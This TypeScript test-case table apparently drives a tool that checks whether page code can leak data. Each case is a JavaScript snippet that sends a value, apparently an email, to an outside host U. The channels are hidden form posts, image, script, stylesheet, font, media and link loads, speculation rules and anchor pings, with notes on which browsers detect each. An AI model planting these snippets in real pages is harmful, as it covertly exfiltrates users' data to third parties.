import type { ChannelCase } from '../channel-case.ts';

const put = (markup: string): string => `document.body.insertAdjacentHTML('beforeend', \`${markup}\`);`;
const make = (name: string, property: string): string => `const it = document.createElement('${name}'); it.${property} = U + '/c?e=' + encodeURIComponent(E); document.body.append(it);`;
const inForm = (attributes: string): string => `${put(`<iframe name="t-\${ID}" hidden></iframe><form hidden target="t-\${ID}" action="\${U}/c" ${attributes}><input name="email" value="\${E}"></form>`)} document.body.lastElementChild.requestSubmit();`;

/** What elements and style sheets fetch, and what forms send. */
export const MARKUP: readonly ChannelCase[] = [
  { id: 'form-urlencoded', what: 'form, urlencoded', act: inForm('method="post"') },
  { id: 'form-multipart', what: 'form, multipart', act: inForm('method="post" enctype="multipart/form-data"') },
  { id: 'form-plain', what: 'form, text/plain', act: inForm('method="post" enctype="text/plain"') },
  { id: 'form-get', what: 'form, GET', act: inForm('method="get"') },
  { id: 'form-scripted', what: 'form.submit()', act: inForm('method="post"').replace('requestSubmit', 'submit') },
  { id: 'image', what: 'img', act: make('img', 'src') },
  { id: 'image-srcset', what: 'img srcset', act: make('img', 'srcset') },
  { id: 'image-object', what: 'new Image, never inserted', act: `new Image().src = U + '/c?e=' + encodeURIComponent(E);` },
  { id: 'image-input', what: 'input type=image', act: put('<input type="image" alt="" src="${U}/c?e=${encodeURIComponent(E)}">') },
  { id: 'image-svg', what: 'image in SVG', act: put('<svg><image href="${U}/c?e=${encodeURIComponent(E)}"/></svg>') },
  { id: 'script', what: 'script', act: make('script', 'src') },
  { id: 'script-module', what: 'import()', act: `await import(U + '/module.js?e=' + encodeURIComponent(E));` },
  { id: 'script-written', what: 'script in innerHTML of a frame', act: `const f = document.createElement('iframe'); f.hidden = true; document.body.append(f); f.contentDocument.write('<script src="' + U + '/c.js?e=' + encodeURIComponent(E) + '"><' + '/script>'); f.contentDocument.close();` },
  { id: 'style-sheet', what: 'link rel=stylesheet', act: `const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = U + '/c?e=' + encodeURIComponent(E); document.head.append(it);` },
  { id: 'style-import', what: '@import', act: `const it = document.createElement('style'); it.textContent = '@import url(' + U + '/c?e=' + encodeURIComponent(E) + ')'; document.head.append(it);` },
  { id: 'style-image', what: 'url() in a style', act: `const it = document.createElement('div'); it.style.cssText = 'width:9px;height:9px;background:url(' + U + '/c?e=' + encodeURIComponent(E) + ')'; document.body.append(it);` },
  { id: 'font', what: '@font-face', act: `const it = new FontFace('f', 'url(' + U + '/c?e=' + encodeURIComponent(E) + ')'); document.fonts.add(it); await it.load().catch(() => {});` },
  { id: 'media', what: 'video', act: make('video', 'src') },
  { id: 'media-poster', what: 'video poster', act: make('video', 'poster') },
  { id: 'frame', what: 'iframe', act: make('iframe', 'src') },
  { id: 'object', what: 'object', act: `const it = document.createElement('object'); it.type = 'image/png'; it.data = U + '/c?e=' + encodeURIComponent(E); document.body.append(it);` },
  { id: 'embed', what: 'embed', act: `const it = document.createElement('embed'); it.type = 'image/png'; it.src = U + '/c?e=' + encodeURIComponent(E); document.body.append(it);` },
  { id: 'link-preload', what: 'link rel=preload', act: `const it = document.createElement('link'); it.rel = 'preload'; it.as = 'image'; it.href = U + '/c?e=' + encodeURIComponent(E); document.head.append(it);` },
  { id: 'link-icon', what: 'link rel=icon', act: `const it = document.createElement('link'); it.rel = 'icon'; it.href = U + '/c?e=' + encodeURIComponent(E); document.head.append(it);`, sees: { command: 'absent' }, because: 'a headless browser loads no icons' },
  { id: 'link-preconnect', what: 'link rel=preconnect', act: `const it = document.createElement('link'); it.rel = 'preconnect'; it.href = U; document.head.append(it);`, truth: 'unheard', sees: { chromium: 'contact', firefox: 'contact', command: 'contact' }, because: 'nothing is sent but the connection itself' },
  { id: 'link-dns', what: 'link rel=dns-prefetch', act: `const it = document.createElement('link'); it.rel = 'dns-prefetch'; it.href = U; document.head.append(it);`, truth: 'unheard', sees: { chromium: 'contact', firefox: 'contact', command: 'contact' }, because: 'nothing is sent but the name, to the resolver' },
  { id: 'speculation', what: 'speculation rules, prefetch', act: `const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [U + '/c?e=' + encodeURIComponent(E)] }] }); document.head.append(it);`, sees: { firefox: 'absent' } },
  { id: 'anchor-ping', what: 'a ping', act: `const it = document.createElement('a'); it.href = '#pinged'; it.ping = U + '/c?e=' + encodeURIComponent(E); document.body.append(it); it.click();`, sees: { firefox: 'absent' }, because: 'switched off in Firefox' },
];
